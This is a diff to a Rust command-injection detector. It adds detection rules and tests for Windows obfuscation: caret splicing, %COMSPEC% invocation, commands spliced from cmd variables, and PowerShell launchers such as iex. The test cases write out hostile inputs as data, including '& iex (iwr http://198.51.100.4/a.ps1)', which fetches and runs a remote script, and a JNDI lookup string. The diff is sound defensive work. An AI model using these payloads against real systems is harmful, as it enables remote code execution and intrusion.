@@ -1380,6 +1380,12 @@ fn read_word(b: &[u8], start: usize, end: usize) -> Word {
             }
             break;
         }
+        // cmd.exe drops a caret before an ordinary character: `w^h^o^a^m^i`.
+        if x == b'^' && !w.is_empty() && i + 1 < end && b[i + 1].is_ascii_alphanumeric() {
+            w.spliced = true;
+            i += 1;
+            continue;
+        }
         if x == b':' && w.len == 1 && i + 1 < end && matches!(b[i + 1], b'\\' | b'/') {
             w.push(b':');
             i += 1;
@@ -3264,6 +3270,9 @@ const GATES: &[&[&str]] = &[
     &["@("],
     &["constructor", "mainmodule"],
     &["sh,-c,"],
+    &["%comspec%"],
+    &["call %", "call  %"],
+    &["start-process", "invoke-", "iex", "saps"],
 ];
 
 /// Unanchored bytes the gate automaton walks rather than start a new call.
@@ -3305,7 +3314,7 @@ static GATE_AC: LazyLock<(AhoCorasick, Vec<u64>)> = LazyLock::new(|| {
 static ANCHOR: [bool; 256] = {
     let mut t = [false; 256];
     // At most 16 bytes: the SIMD search handles no more single bytes.
-    let set = b"/-|<>:(\n_@#${";
+    let set = b"/-|<>:(\n_@#${%";
     let mut k = 0;
     while k < set.len() {
         t[set[k] as usize] = true;
@@ -3489,6 +3498,19 @@ const PATTERN_SRC: &[(&str, usize)] = &[
     (
         r"(?i)(?:^|[\s,={(\x00])(?:/bin/|/usr/bin/)?(?:ba|z|k|da|c|tc)?sh(?:\.exe)?,-c,[^\s,]",
         R_EVASION,
+    ),
+    // cmd.exe through its variable: `& %COMSPEC% /c dir`.
+    (r"(?i)%comspec%\s+/[ck]\s+\S", R_WINDOWS),
+    // A command spliced from cmd variables: `set a=who&& set b=ami&& call %a%%b%`.
+    (
+        r"(?i)(?-u:\b)set\s+\x22?\w{1,16}=[^\n&|]{1,80}&&?[^\n]{0,200}?(?-u:\b)call\s+(?:%\w{1,16}%){1,8}",
+        R_WINDOWS,
+    ),
+    // A PowerShell launcher after a separator, given a program, options or
+    // code: `; Start-Process calc.exe`, `| iex $payload`.
+    (
+        r"(?i)(?:[;&|\n\x60]|\$\()\s*(?:start-process|saps|invoke-expression|iex)\s*(?:[\w.\\/:-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr)(?-u:\b)|(?:calc|cmd|powershell|pwsh|notepad|mshta|rundll32)(?-u:\b)|-\w|['\x22($])",
+        R_WINDOWS,
     ),
 ];
 
@@ -4081,6 +4103,29 @@ mod tests {
             "User-Agent: ${jNdI:rmi://x/y}",
         ] {
             assert!(rules(t).contains(&"cmdi-jndi"), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn windows_obfuscation() {
+        for t in [
+            "&& i^p^c^o^n^f^i^g /all",
+            "|| %ComSpec% /k whoami",
+            "& set p=ip&& set q=config&& call %p%%q%",
+            "| saps notepad.exe",
+            "| Invoke-Expression $env:PAYLOAD",
+            "& iex (iwr http://198.51.100.4/a.ps1)",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+        for t in [
+            "x^2 + y^2 = r^2; solve for r",
+            "we call %PATH% the search path",
+            "set COLOR=blue and restart",
+            "Tests; Start-Process is a cmdlet worth knowing",
+            "the caret in ^C interrupts; use it",
+        ] {
+            assert!(!flagged(t), "false positive on {t:?}: {:?}", rules(t));
         }
     }
 
